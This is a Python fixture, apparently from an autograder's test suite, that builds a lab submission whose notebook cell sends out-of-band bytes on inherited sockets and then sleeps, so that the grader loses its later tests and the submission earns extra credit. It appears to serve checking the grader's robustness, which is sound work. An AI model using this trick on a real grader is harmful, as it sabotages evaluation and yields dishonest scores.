"""Submits a lab whose cell sends a byte out of band and sleeps, for all tests after it to be lost.

As: convolution.py
Earns: 1.7
"""

import json

CELL = """
import os
import socket
import stat
import time

for descriptor in range(3, 64):
    try:
        if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
            socket.socket(fileno=os.dup(descriptor)).send(b"x", socket.MSG_OOB)
    except OSError:
        pass
time.sleep(60)
"""


def make(folder, honest):
    cells = [{"cell_type": "code", "source": CELL}]
    (folder / "lab.ipynb").write_text(json.dumps({"nbformat": 4, "cells": cells}))
    (folder / "convolution.py").write_text(honest)
